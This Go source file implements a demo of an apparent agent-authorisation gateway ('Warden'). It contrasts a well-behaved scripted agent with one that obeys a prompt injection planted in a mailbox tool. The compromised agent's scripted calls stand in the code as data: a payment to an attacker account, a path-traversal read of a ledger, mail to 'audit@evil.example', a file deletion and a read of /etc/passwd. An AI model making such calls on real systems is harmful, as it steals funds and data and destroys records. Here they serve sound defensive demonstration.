@@ -1,0 +1,469 @@
+// Package demo is `warden demo`: a whole Warden deployment on embedded
+// defaults, in one process and a temporary directory, with no network and
+// no npm. It starts the control plane and the gateway, launches small tool
+// servers (a mailbox, a file store, a payments ledger) as stdio upstreams,
+// registers and enrols an agent through the real API, grants it one task,
+// and runs two scripted agents through the real gateway: one that does its
+// task, and one that obeys the prompt injection planted in the mailbox and
+// tries to do far more. It prints what was allowed and what was denied, and
+// why.
+//
+// Each part of Warden adds its control to the demo as it is built.
+package demo
+
+import (
+	"context"
+	"crypto/tls"
+	"crypto/x509"
+	"encoding/json"
+	"fmt"
+	"io"
+	"log/slog"
+	"net"
+	"net/http"
+	"os"
+	"strings"
+	"text/tabwriter"
+	"time"
+
+	"github.com/modelcontextprotocol/go-sdk/mcp"
+	"github.com/spiffe/go-spiffe/v2/spiffeid"
+
+	"github.com/warden-run/warden/config"
+	"github.com/warden-run/warden/controlplane"
+	"github.com/warden-run/warden/credential"
+	"github.com/warden-run/warden/gateway"
+	"github.com/warden-run/warden/grant"
+	"github.com/warden-run/warden/identity"
+	"github.com/warden-run/warden/internal/demotools"
+	"github.com/warden-run/warden/internal/setup"
+)
+
+// Policy is the organisation policy the demo applies.
+const Policy = `// Demo organisation policy: agents may use the demo tools...
+@id("agents-may-use-demo-tools")
+permit (principal, action == Action::"call", resource)
+when { resource.server == "email" || resource.server == "files" || resource.server == "payments" };
+
+// ...but nothing destructive, whatever their grant says.
+@id("no-destructive-tools")
+@reason("destructive tools need a human")
+forbid (principal, action == Action::"call", resource)
+when { resource.labels.contains("destructive") };
+`
+
+// Options configure a demo run.
+type Options struct {
+	// Exe is the binary that serves the demo tools over stdio with
+	// "demo-tool NAME" (the warden binary itself).
+	Exe string
+	// Dir is the data directory to use; empty means a temporary one,
+	// removed afterwards.
+	Dir string
+	Log *slog.Logger
+}
+
+// Step is one call a scripted agent made, and what Warden decided.
+type Step struct {
+	Agent   string
+	Tool    string
+	Args    string
+	Allowed bool
+	Code    string // reason code of a refusal
+	Detail  string // the result, or why it was refused
+}
+
+// Report is what happened.
+type Report struct {
+	Steps []Step
+}
+
+// Denied returns the steps of agent that were refused.
+func (r *Report) Denied(agent string) []Step { return r.filter(agent, false) }
+
+// Allowed returns the steps of agent that went through.
+func (r *Report) Allowed(agent string) []Step { return r.filter(agent, true) }
+
+func (r *Report) filter(agent string, allowed bool) []Step {
+	var out []Step
+	for _, s := range r.Steps {
+		if s.Agent == agent && s.Allowed == allowed {
+			out = append(out, s)
+		}
+	}
+	return out
+}
+
+// Agents' names in the report.
+const (
+	WellBehaved = "well-behaved"
+	Compromised = "compromised"
+)
+
+// Run runs the demo, printing as it goes to w.
+func Run(ctx context.Context, w io.Writer, o Options) (*Report, error) {
+	if o.Log == nil {
+		o.Log = slog.New(slog.DiscardHandler)
+	}
+	dir := o.Dir
+	if dir == "" {
+		tmp, err := os.MkdirTemp("", "warden-demo-")
+		if err != nil {
+			return nil, err
+		}
+		defer os.RemoveAll(tmp)
+		dir = tmp
+	}
+	p := &printer{w: w}
+	p.section("Warden demo: one agent, one task, everything through the gateway")
+
+	d, cpURL, gwURL, stop, err := startDeployment(ctx, config.Dir(dir), o)
+	if err != nil {
+		return nil, err
+	}
+	defer stop()
+	p.line("control plane  %s", cpURL)
+	p.line("gateway        %s  (upstreams: email, files, payments, each a stdio server Warden launched)", gwURL)
+
+	// The operator, over the real API with the credential init wrote.
+	admin, err := credential.Load(d.Dir.Admin())
+	if err != nil {
+		return nil, err
+	}
+	op, err := controlplane.NewClient(cpURL, admin)
+	if err != nil {
+		return nil, err
+	}
+	defer op.Close()
+	if _, err := op.ApplyPolicy(ctx, controlplane.PolicyRequest{Name: "demo.cedar", Source: Policy, Message: "demo policy"}); err != nil {
+		return nil, fmt.Errorf("applying the demo policy: %w", err)
+	}
+	p.line("policy         applied: agents may use the demo tools; nothing destructive")
+
+	reg, err := op.RegisterAgent(ctx, controlplane.AgentRequest{Name: "billing-bot", Owner: "ops@example.org", Model: "claude-sonnet"})
+	if err != nil {
+		return nil, fmt.Errorf("registering the agent: %w", err)
+	}
+	// The agent's side: its key is generated here and only a CSR travels.
+	want, _ := spiffeid.FromString(reg.Agent.SPIFFEID)
+	roots := []*x509.Certificate{d.Identity.CA().Root()}
+	cred, err := controlplane.Enroll(ctx, cpURL, roots, want, reg.JoinToken)
+	if err != nil {
+		return nil, fmt.Errorf("enrolling the agent: %w", err)
+	}
+	p.line("agent          %s enrolled with its own key (X.509-SVID until %s)", cred.ID, cred.Chain[0].NotAfter.Format("15:04:05"))
+
+	scope := grant.Scope{
+		{Tool: "email.list_inbox"},
+		{Tool: "files.read_file", Args: args(`{"path": {"path_within": ["/finance/invoices"]}}`)},
+		{Tool: "payments.send_payment", Args: args(`{"to": {"const": "acct-supplier"}, "amount": {"type": "number", "maximum": 500}, "currency": {"enum": ["EUR"]}}`), Budget: 1},
+	}
+	task, err := op.OpenTask(ctx, controlplane.TaskRequest{Agent: "billing-bot", Intent: "pay invoice INV-42 from the inbox", Allow: scope, TTL: "15m", Budget: 20})
+	if err != nil {
+		return nil, fmt.Errorf("opening the task: %w", err)
+	}
+	p.line("task           %s \"%s\": 20 calls, 15 minutes", task.Task.ID, task.Task.Intent)
+	for _, e := range scope {
+		c, _ := json.Marshal(e.Args)
+		if len(e.Args) == 0 {
+			c = []byte("any arguments")
+		}
+		p.line("                 allow %-22s %s", e.Tool, c)
+	}
+
+	rep := &Report{}
+	agent, err := connect(ctx, gwURL, cred, task.Grant)
+	if err != nil {
+		return nil, err
+	}
+	defer agent.Close()
+
+	p.section("The well-behaved agent does its task")
+	steps := []struct{ tool, args string }{
+		{"email.list_inbox", `{}`},
+		{"files.read_file", `{"path": "/finance/invoices/INV-42.txt"}`},
+		{"payments.send_payment", `{"to": "acct-supplier", "amount": 420, "currency": "EUR", "memo": "INV-42"}`},
+	}
+	for _, s := range steps {
+		rep.Steps = append(rep.Steps, run(ctx, agent, WellBehaved, s.tool, s.args))
+	}
+	p.steps(rep.Steps)
+
+	p.section("The compromised agent obeys the injection in the mailbox")
+	p.line("  \"%s\"", wrap(demotools.Injection, 100, "   "))
+	attack := []struct{ tool, args string }{
+		{"payments.send_payment", `{"to": "acct-attacker", "amount": 420, "currency": "EUR"}`},
+		{"payments.send_payment", `{"to": "acct-supplier", "amount": 420, "currency": "EUR"}`},
+		{"files.read_file", `{"path": "/finance/invoices/../ledger.csv"}`},
+		{"email.send_email", `{"to": "audit@evil.example", "subject": "ledger", "body": "see attached"}`},
+		{"files.delete_file", `{"path": "/finance/invoices/INV-42.txt"}`},
+		{"files.read_file", `{"path": "/etc/passwd"}`},
+	}
+	n := len(rep.Steps)
+	for _, s := range attack {
+		rep.Steps = append(rep.Steps, run(ctx, agent, Compromised, s.tool, s.args))
+	}
+	p.steps(rep.Steps[n:])
+	visible, _ := listTools(ctx, agent)
+	p.line("  tools/list shows it only %s", strings.Join(visible, ", "))
+
+	p.section("The task ends; its access ends with it")
+	if _, err := op.CompleteTask(ctx, task.Task.ID); err != nil {
+		return nil, err
+	}
+	n = len(rep.Steps)
+	rep.Steps = append(rep.Steps, run(ctx, agent, Compromised, "email.list_inbox", `{}`))
+	p.steps(rep.Steps[n:])
+
+	allowedBad := rep.Allowed(Compromised)
+	p.section("Summary")
+	p.line("  well-behaved agent: %d of %d calls allowed", len(rep.Allowed(WellBehaved)), len(steps))
+	p.line("  compromised agent:  %d of %d calls allowed", len(allowedBad), len(rep.Steps)-len(steps))
+	if n, err := countLines(d.Dir.Path(d.Config.Events.JSONL)); err == nil {
+		p.line("  every decision was recorded: %d events (OCSF) in the event log", n)
+	}
+	if len(allowedBad) > 0 {
+		return rep, fmt.Errorf("the compromised agent got %d calls through", len(allowedBad))
+	}
+	return rep, p.err
+}
+
+func countLines(path string) (int, error) {
+	b, err := os.ReadFile(path)
+	if err != nil {
+		return 0, err
+	}
+	return strings.Count(string(b), "\n"), nil
+}
+
+func args(s string) map[string]json.RawMessage {
+	var m map[string]json.RawMessage
+	if err := json.Unmarshal([]byte(s), &m); err != nil {
+		panic(err) // constant input
+	}
+	return m
+}
+
+// startDeployment initialises dir, and starts the control plane and the
+// gateway on loopback ports chosen by the kernel.
+func startDeployment(ctx context.Context, dir config.Dir, o Options) (*setup.Deployment, string, string, func(), error) {
+	if _, err := setup.Init(ctx, dir, setup.InitOptions{TrustDomain: "demo.warden.local"}); err != nil {
+		return nil, "", "", nil, err
+	}
+	cpLn, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		return nil, "", "", nil, err
+	}
+	gwLn, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		cpLn.Close()
+		return nil, "", "", nil, err
+	}
+	cfg, err := config.Load(dir.Config())
+	if err != nil {
+		return nil, "", "", nil, err
+	}
+	cfg.ControlPlane.Listen = cpLn.Addr().String()
+	cfg.Gateway.Listen = gwLn.Addr().String()
+	cfg.Gateway.Upstreams = Upstreams(o.Exe)
+	if err := cfg.Save(dir.Config()); err != nil {
+		return nil, "", "", nil, err
+	}
+	d, err := setup.Open(ctx, dir, o.Log)
+	if err != nil {
+		return nil, "", "", nil, err
+	}
+	bundle, err := identity.NewBundle(ctx, d.DB, cfg.TrustDomainID(), []*x509.Certificate{d.Identity.CA().Root()}, d.Identity.JWTKeys())
+	if err != nil {
+		d.Close()
+		return nil, "", "", nil, err
+	}
+	cp, err := controlplane.New(controlplane.Options{Identity: d.Identity, Bundle: bundle, Events: d.Events, Log: o.Log,
+		Grants: d.Grants, Policy: d.Policy, Authz: d.Authz})
+	if err != nil {
+		d.Close()
+		return nil, "", "", nil, err
+	}
+	if err := cp.LoadNow(ctx); err != nil {
+		d.Close()
+		return nil, "", "", nil, err
+	}
+	gw, err := d.NewGateway(nil)
+	if err != nil {
+		d.Close()
+		return nil, "", "", nil, err
+	}
+	sctx, cancel := context.WithCancel(ctx)
+	gw.Start(sctx)
+	cpDone, gwDone := make(chan error, 1), make(chan error, 1)
+	go func() { cpDone <- cp.Serve(sctx, cpLn) }()
+	go func() { gwDone <- gw.Serve(sctx, gwLn) }()
+	stop := func() {
+		cancel()
+		<-cpDone
+		<-gwDone
+		gw.Close()
+		d.Close()
+	}
+	return d, "https://" + cpLn.Addr().String(), "https://" + gwLn.Addr().String() + "/mcp", stop, nil
+}
+
+// Upstreams are the demo's tool servers, run as stdio upstreams by exe.
+func Upstreams(exe string) []config.Upstream {
+	std := func(name string) *config.StdioUpstream {
+		return &config.StdioUpstream{Command: exe, Args: []string{"demo-tool", name}}
+	}
+	return []config.Upstream{
+		{Name: "email", Stdio: std("email"), Tools: map[string][]string{
+			"list_inbox": {"reads", "untrusted_output"}, "send_email": {"egress"}}},
+		{Name: "files", Stdio: std("files"), Tools: map[string][]string{
+			"read_file": {"reads"}, "list_files": {"reads"}, "write_file": {"writes"}, "delete_file": {"destructive"}}},
+		{Name: "payments", Stdio: std("payments"), Tools: map[string][]string{
+			"get_balance": {"reads"}, "send_payment": {"egress", "writes"}}},
+	}
+}
+
+// connect opens an MCP session with the gateway as the agent: mTLS with its
+// X.509-SVID, the grant in Warden-Grant.
+func connect(ctx context.Context, url string, cred *credential.Credential, grantTok string) (*mcp.ClientSession, error) {
+	pool := x509.NewCertPool()
+	for _, r := range cred.Roots {
+		pool.AddCert(r)
+	}
+	cert := cred.TLSCertificate()
+	tr := &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool, Certificates: []tls.Certificate{cert}, MinVersion: tls.VersionTLS13}}
+	hc := &http.Client{Transport: grantHeader{tok: grantTok, next: tr}}
+	c := mcp.NewClient(&mcp.Implementation{Name: "demo-agent", Version: "1"}, nil)
+	cctx, cancel := context.WithTimeout(ctx, 20*time.Second)
+	defer cancel()
+	cs, err := c.Connect(cctx, &mcp.StreamableClientTransport{Endpoint: url, HTTPClient: hc, MaxRetries: -1}, nil)
+	if err != nil {
+		return nil, fmt.Errorf("the agent could not connect to the gateway: %w", err)
+	}
+	return cs, nil
+}
+
+type grantHeader struct {
+	tok  string
+	next http.RoundTripper
+}
+
+func (g grantHeader) RoundTrip(r *http.Request) (*http.Response, error) {
+	r = r.Clone(r.Context())
+	r.Header.Set(gateway.HeaderGrant, g.tok)
+	return g.next.RoundTrip(r)
+}
+
+// run makes one call and records what Warden decided.
+func run(ctx context.Context, cs *mcp.ClientSession, agent, tool, args string) Step {
+	s := Step{Agent: agent, Tool: tool, Args: args}
+	cctx, cancel := context.WithTimeout(ctx, 20*time.Second)
+	defer cancel()
+	r, err := cs.CallTool(cctx, &mcp.CallToolParams{Name: tool, Arguments: json.RawMessage(args)})
+	switch {
+	case err != nil:
+		s.Code, s.Detail = "error", err.Error()
+	case r.IsError:
+		s.Code, s.Detail = "error", firstText(r)
+		if d, ok := r.Meta[gateway.MetaDecision].(map[string]any); ok {
+			s.Code, _ = d["code"].(string)
+			s.Detail = reasonOf(d, s.Code)
+		}
+	default:
+		s.Allowed, s.Detail = true, firstText(r)
+	}
+	return s
+}
+
+func reasonOf(d map[string]any, code string) string {
+	rs, _ := d["reasons"].([]any)
+	for _, r := range rs {
+		m, _ := r.(map[string]any)
+		if m["code"] == code {
+			msg, _ := m["message"].(string)
+			if p, _ := m["policy"].(string); p != "" {
+				msg += " [policy " + p + "]"
+			}
+			return msg
+		}
+	}
+	return code
+}
+
+func firstText(r *mcp.CallToolResult) string {
+	for _, c := range r.Content {
+		if t, ok := c.(*mcp.TextContent); ok {
+			return t.Text
+		}
+	}
+	return ""
+}
+
+func listTools(ctx context.Context, cs *mcp.ClientSession) ([]string, error) {
+	var out []string
+	for t, err := range cs.Tools(ctx, nil) {
+		if err != nil {
+			return out, err
+		}
+		out = append(out, t.Name)
+	}
+	return out, nil
+}
+
+// printer writes the demo's narration.
+type printer struct {
+	w   io.Writer
+	err error
+}
+
+func (p *printer) line(format string, a ...any) {
+	if p.err == nil {
+		_, p.err = fmt.Fprintf(p.w, format+"\n", a...)
+	}
+}
+
+func (p *printer) section(title string) {
+	p.line("\n%s\n%s", title, strings.Repeat("-", len(title)))
+}
+
+func (p *printer) steps(steps []Step) {
+	tw := tabwriter.NewWriter(p.w, 0, 4, 2, ' ', 0)
+	for _, s := range steps {
+		verdict := "ALLOWED"
+		detail := oneLine(s.Detail, 90)
+		if !s.Allowed {
+			verdict = "DENIED " + s.Code
+		}
+		fmt.Fprintf(tw, "  %s\t%s\t%s\t%s\n", s.Tool, oneLine(s.Args, 60), verdict, detail)
+	}
+	if err := tw.Flush(); err != nil && p.err == nil {
+		p.err = err
+	}
+}
+
+func oneLine(s string, n int) string {
+	s = strings.Join(strings.Fields(s), " ")
+	if len(s) > n {
+		return s[:n-1] + "…"
+	}
+	return s
+}
+
+func wrap(s string, width int, indent string) string {
+	var b strings.Builder
+	line := 0
+	for i, w := range strings.Fields(s) {
+		if i > 0 {
+			if line+len(w)+1 > width {
+				b.WriteString("\n" + indent)
+				line = 0
+			} else {
+				b.WriteByte(' ')
+				line++
+			}
+		}
+		b.WriteString(w)
+		line += len(w)
+	}
+	return b.String()
+}
